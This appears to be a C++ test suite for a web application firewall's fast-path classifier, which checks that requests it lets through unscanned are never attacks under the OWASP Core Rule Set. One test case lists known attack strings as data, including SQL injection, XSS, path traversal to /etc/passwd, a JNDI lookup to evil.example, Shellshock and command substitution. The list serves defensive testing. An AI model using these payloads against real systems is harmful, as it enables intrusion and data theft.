#include "catch.hpp"

#include <cctype>
#include <cstdlib>
#include <fstream>
#include <map>
#include <string>
#include <vector>

#include "base/random.hpp"
#include "edge/waf/core_rule_set.hpp"
#include "edge/waf/tame.hpp"
#include "http/uri.hpp"

using namespace wt;
using namespace wt::edge::waf;

namespace {

constexpr std::uint64_t limit = 16'384;

bool attack(const http::Request& request) { return CoreRuleSet::shared().blocks(request, limit); }

Tame& tame() {
    static Tame one(CoreRuleSet::shared());
    return one;
}

/// Every run of letters, digits, - and _ in the rule set's own text: what its expressions and lists are made of.
const std::vector<std::string>& vocabulary() {
    static const std::vector<std::string> words = [] {
        std::vector<std::string> found;
        std::map<std::string, bool> seen;
        for (const char* file : {"REQUEST-913-SCANNER-DETECTION.conf",
                                 "REQUEST-920-PROTOCOL-ENFORCEMENT.conf",
                                 "REQUEST-921-PROTOCOL-ATTACK.conf",
                                 "REQUEST-930-APPLICATION-ATTACK-LFI.conf",
                                 "REQUEST-932-APPLICATION-ATTACK-RCE.conf",
                                 "REQUEST-933-APPLICATION-ATTACK-PHP.conf",
                                 "REQUEST-934-APPLICATION-ATTACK-NODEJS.conf",
                                 "REQUEST-941-APPLICATION-ATTACK-XSS.conf",
                                 "REQUEST-942-APPLICATION-ATTACK-SQLI.conf",
                                 "REQUEST-943-APPLICATION-ATTACK-SESSION-FIXATION.conf",
                                 "REQUEST-944-APPLICATION-ATTACK-JAVA.conf",
                                 "php-function-names-933150.data",
                                 "lfi-os-files.data",
                                 "restricted-files.data",
                                 "windows-powershell-commands.data",
                                 "unix-shell.data",
                                 "java-classes.data",
                                 "scanners-urls.data",
                                 "scanners-headers.data",
                                 "php-config-directives.data",
                                 "php-variables.data"}) {
            std::ifstream text(std::string(CoreRuleSet::folder) + "/" + file);
            for (std::string line; std::getline(text, line);) {
                if (line.starts_with('#')) continue;
                std::string word;
                for (const char c : line + "\n") {
                    if (std::isalnum(static_cast<unsigned char>(c)) != 0 || c == '_' || c == '-') {
                        word += c;
                    } else {
                        if (word.size() > 1 && word.size() < 30 && seen.emplace(word, true).second) {
                            found.push_back(word);
                        }
                        word.clear();
                    }
                }
            }
        }
        return found;
    }();
    return words;
}

std::string random_word(Random& random) {
    static constexpr std::string_view everyday[] = {
        "items", "lamp",  "Lamp",  "price", "red", "12", "2026", "id",   "u17", "name", "page", "sort", "asc",  "q",
        "in",    "stock", "order", "new",   "to",  "a",  "The",  "size", "XL",  "or",   "and",  "is",   "time", "3",
    };
    switch (random.below(4)) {
        case 0: return std::string(everyday[random.below(std::size(everyday))]);
        case 1: {
            std::string digits;
            for (auto count = 1 + random.below(10); count > 0; --count) {
                digits += static_cast<char>('0' + random.below(10));
            }
            return digits;
        }
        case 2: {
            std::string letters;
            for (auto count = 1 + random.below(6); count > 0; --count) {
                letters += static_cast<char>('a' + random.below(26));
            }
            return letters;
        }
        default: return vocabulary()[random.below(vocabulary().size())];
    }
}

/// Words between signs, mostly those that may be tame and now and then one that is not.
std::string random_text(Random& random) {
    static constexpr std::string_view signs[] = {" ",  " ",  " ", "-", "_", ".", ",", ":",
                                                 ", ", ". ", "",  "=", "'", "/", "+"};
    const bool run_together = random.chance(0.1);
    std::string text = random_word(random);
    for (auto count = random.below(5); count > 0; --count) {
        if (!run_together) text += signs[random.below(random.chance(0.05) ? std::size(signs) : 11)];
        text += random_word(random);
    }
    return text;
}

std::string spaceless(std::string text) {
    for (char& c : text) {
        if (c == ' ') c = '-';
    }
    return text;
}

http::Request random_request(Random& random) {
    static constexpr http::Method methods[] = {http::Method::get, http::Method::get,   http::Method::post,
                                               http::Method::put, http::Method::patch, http::Method::del};
    http::Request request;
    request.method = methods[random.below(std::size(methods))];
    std::string path;
    for (auto count = 1 + random.below(3); count > 0; --count) path += "/" + spaceless(random_word(random));
    request.path = path;
    std::string query;
    for (auto count = random.below(3); count > 0; --count) {
        query += (query.empty() ? "" : "&") + spaceless(random_word(random)) + "=" + spaceless(random_text(random));
    }
    request.query = query;
    if (random.chance(0.5)) request.headers.add("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101");
    if (random.chance(0.3)) request.headers.add("Authorization", Text("Bearer " + spaceless(random_text(random))));
    if (random.chance(0.3)) request.headers.add("Accept", "application/json, text/plain, */*");
    if (random.chance(0.3)) {
        request.headers.add("Cookie", Text("s=" + spaceless(random_text(random)) + "; " +
                                           spaceless(random_word(random)) + "=" + spaceless(random_word(random))));
    }
    if (request.method == http::Method::get || request.method == http::Method::del) return request;
    if (random.chance(0.7)) {
        request.headers.add("Content-Type", "application/json");
        std::string body = "{";
        for (auto count = 1 + random.below(3); count > 0; --count) {
            body += "\"" + spaceless(random_word(random)) + "\": ";
            switch (random.below(4)) {
                case 0: body += std::to_string(random.below(100'000)); break;
                case 1: body += "{\"" + random_word(random) + "\":[\"" + random_text(random) + "\", null]}"; break;
                default: body += "\"" + random_text(random) + "\"";
            }
            body += count > 1 ? "," : "}";
        }
        request.body = body;
    } else {
        request.headers.add("Content-Type", "application/x-www-form-urlencoded");
        request.body = spaceless(random_word(random)) + "=" + spaceless(random_text(random));
    }
    return request;
}

std::string shown(const http::Request& request) {
    std::string text(http::name(request.method));
    text.append(" ").append(request.path.view()).append("?").append(request.query.view());
    for (const auto& field : request.headers) {
        text.append("\n").append(field.name.view()).append(": ").append(field.value.view());
    }
    return text + "\n" + request.body.str();
}

/// Puts a text where an attacker would, so that the request is otherwise plain.
std::vector<http::Request> everywhere(const std::string& text) {
    std::vector<http::Request> requests(7);
    requests[0].path = "/items/" + text;
    requests[1].query = "q=" + text;
    requests[2].query = text + "=1";
    requests[3].headers.add("Cookie", Text("s=" + text));
    requests[4].headers.add("Authorization", Text("Bearer " + text));
    requests[5].method = http::Method::post;
    requests[5].headers.add("Content-Type", "application/json");
    requests[5].body = "{\"name\":\"" + text + "\"}";
    requests[6].method = http::Method::post;
    requests[6].headers.add("Content-Type", "application/json");
    requests[6].body = "{\"" + text + "\":1}";
    return requests;
}

}  // namespace

TEST_CASE("what is tame the Core Rule Set lets pass: generated requests, benign and hostile") {
    const char* given = std::getenv("WAF_ROUNDS");
    const int rounds = given != nullptr ? std::atoi(given) : 2000;
    Random random(given != nullptr ? static_cast<std::uint64_t>(rounds) : 11, "requests");
    int tamed = 0;
    for (int round = 0; round < rounds; ++round) {
        const http::Request request = random_request(random);
        if (!tame().is_tame(request, limit)) continue;
        ++tamed;
        if (!attack(request)) continue;
        INFO(shown(request));
        FAIL_CHECK("tame, and an attack to the rule set");
    }
    CHECK(tamed > rounds / 10);  // otherwise nothing was tested
}

TEST_CASE("no word of the rule set's own text is tame where the rule set finds it an attack") {
    Random random(12, "words");
    const std::size_t step = std::getenv("WAF_ROUNDS") != nullptr ? 1 : 23;
    for (std::size_t i = random.below(step); i < vocabulary().size(); i += step) {
        const std::string& word = vocabulary()[i];
        for (const std::string& text : {word, word + " 1", "12 " + word, word + "-" + word, "a." + word, word + ".b"}) {
            for (const http::Request& request : everywhere(text)) {
                if (!tame().is_tame(request, limit)) continue;
                if (!attack(request)) continue;
                INFO(shown(request));
                FAIL_CHECK("tame, and an attack to the rule set");
            }
        }
    }
}

TEST_CASE("known attacks are not tame, wherever they stand") {
    for (const char* text : {"1' OR '1'='1",
                             "1 OR 1=1",
                             "admin'--",
                             "1 UNION SELECT 1",
                             "<script>alert(1)</script>",
                             "../../etc/passwd",
                             "/etc/passwd",
                             "${jndi:ldap://evil.example/a}",
                             "http://169.254.169.254/latest/meta-data",
                             "() { :; }; id",
                             "; cat /etc/passwd",
                             "$(id)",
                             "`id`",
                             "phpinfo()",
                             "php://input",
                             "information_schema",
                             "java.lang.Runtime",
                             "%27%20or%201=1",
                             "%3Cscript%3E",
                             "..%2f..%2fetc",
                             "sleep(5)",
                             "wget evil",
                             "curl x",
                             "\\u003cscript",
                             "a\\r\\nSet-Cookie: x",
                             "_$$ND_FUNC$$_",
                             "base64_decode",
                             "Invoke-Expression",
                             ".htaccess",
                             ".env",
                             "JSESSIONID.x",
                             "2147483648",
                             "1e309",
                             "{{7*7}}",
                             "O:1:\"a\":1:{}"}) {
        for (const http::Request& request : everywhere(text)) {
            INFO(shown(request));
            if (attack(request)) CHECK_FALSE(tame().is_tame(request, limit));
        }
    }
}

TEST_CASE("what ordinary clients send is tame, so that it costs no transaction") {
    http::Request read;
    read.path = "/items/u123";
    read.query = "page=2&sort=price&fields=id,name,price&after=2026-11-27T10:15:00Z";
    read.headers.add("Host", "api.example.com");
    read.headers.add("User-Agent",
                     "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0");
    read.headers.add("Accept", "application/json, text/plain, */*");
    read.headers.add("Accept-Encoding", "gzip, deflate, br");
    read.headers.add("Authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl");
    read.headers.add("Cookie", "theme=dark; consent=yes");
    CHECK(tame().is_tame(read, limit));
    CHECK_FALSE(attack(read));

    http::Request write;
    write.method = http::Method::put;
    write.path = "/items/550e8400-e29b-41d4-a716-446655440000";
    write.headers.add("Content-Type", "application/json");
    write.body =
        R"({"id": "u123", "title": "Lamp 12, red", "price": 12.5, "tags": ["small", "in stock"], "sold": null})";
    CHECK(tame().is_tame(write, limit));
    CHECK_FALSE(attack(write));
}

TEST_CASE("odd shapes are not tame: bodies of GET, broken JSON, unknown fields, two types") {
    const auto with = [](const char* name, const char* value) {
        http::Request request;
        request.headers.add(Text(std::string_view(name)), Text(std::string_view(value)));
        return request;
    };
    http::Request body;
    body.body = "{}";
    CHECK_FALSE(tame().is_tame(body, limit));
    body.method = http::Method::post;
    CHECK_FALSE(tame().is_tame(body, limit));
    body.headers.add("Content-Type", "application/json");
    CHECK(tame().is_tame(body, limit));
    CHECK_FALSE(tame().is_tame(body, 1));
    for (const char* text : {"{", "{\"a\"}", "[1,]", "01", "1.", "\"a\\n\"", "nul", "{\"\":1}", "{} x"}) {
        INFO(text);
        body.body = Text(std::string_view(text));
        CHECK_FALSE(tame().is_tame(body, limit));
    }
    CHECK_FALSE(tame().is_tame(with("X-Anything", "1"), limit));
    CHECK_FALSE(tame().is_tame(with("Host", "127.0.0.1"), limit));
    CHECK_FALSE(tame().is_tame(with("User-Agent", "sqlmap/1.6"), limit));
    CHECK_FALSE(tame().is_tame(with("Range", "bytes=0-1"), limit));
    http::Request two = with("Content-Type", "application/json");
    two.headers.add("content-type", "text/plain");
    CHECK_FALSE(tame().is_tame(two, limit));
}
